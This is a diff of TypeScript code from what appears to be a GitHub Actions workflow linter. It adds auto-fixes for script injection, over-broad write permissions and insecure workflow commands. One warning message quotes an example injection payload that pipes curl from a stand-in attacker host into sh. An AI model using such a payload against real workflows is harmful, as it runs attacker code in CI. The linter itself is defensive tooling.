@@ -2,7 +2,9 @@ import { at, type ConfigFile, type ConfigNode } from '../../config/file';
 import { environment, jobs, steps, valueSpan } from '../../config/settings';
 import type { Span } from '../../ir/types';
 import type { Severity } from '../../report/finding';
+import { setValue } from '../repairs/configEdits';
 import type { Observation, Rule } from '../rule';
+import { passByVariable } from './fix';
 
 const injectionMessage =
   'GitHub pastes this value into the script before it runs, and anyone can choose it: a title such as `"; curl evil.example | sh` becomes a command. Put it into `env:` and use the variable, in quotes.';
@@ -140,13 +142,14 @@ function injections(
 ): readonly Observation[] {
   return expressions(file.text.slice(script.start, script.end)).flatMap(({ inner, at: place }) => {
     const span = { start: script.start + place.start, end: script.start + place.end };
+    const fixes = () => passByVariable(file, span, inner);
     const variable = /^\s*env\.(\w+)\s*$/.exec(inner)?.[1];
     if (isOutsiders(inner) || (variable !== undefined && tainted.has(variable))) {
-      return [{ at: span, severity, message: injectionMessage }];
+      return [{ at: span, severity, message: injectionMessage, fixes }];
     }
     const input = insiders.exec(inner);
     if (!input || !isFreeText(file, input[1]) || isCompared(inner)) return [];
-    return [{ at: span, severity: 'hint', message: inputMessage } as const];
+    return [{ at: span, severity: 'hint', message: inputMessage, fixes } as const];
   });
 }
 
@@ -229,7 +232,9 @@ function checkPermissions(file: ConfigFile): readonly Observation[] {
   return [file.root, ...jobs(file)].flatMap((scope): Observation[] => {
     const permissions = at(scope, 'permissions');
     if (permissions?.value !== 'write-all') return [];
-    return [{ at: permissions, severity: 'warning', message: permissionsMessage }];
+    const fixes = () =>
+      setValue('Allow reading the code only', permissions, '{ contents: read }', false);
+    return [{ at: permissions, severity: 'warning', message: permissionsMessage, fixes }];
   });
 }
 
@@ -237,7 +242,14 @@ function checkPermissions(file: ConfigFile): readonly Observation[] {
 function checkCommands(file: ConfigFile): readonly Observation[] {
   return environment(file).flatMap(({ name, value, at: place }): Observation[] =>
     name === 'ACTIONS_ALLOW_UNSECURE_COMMANDS' && value.toLowerCase() === 'true'
-      ? [{ at: place, severity: 'warning', message: commandsMessage }]
+      ? [
+          {
+            at: place,
+            severity: 'warning',
+            message: commandsMessage,
+            fixes: () => setValue('Switch it off', place, 'false', false),
+          },
+        ]
       : [],
   );
 }
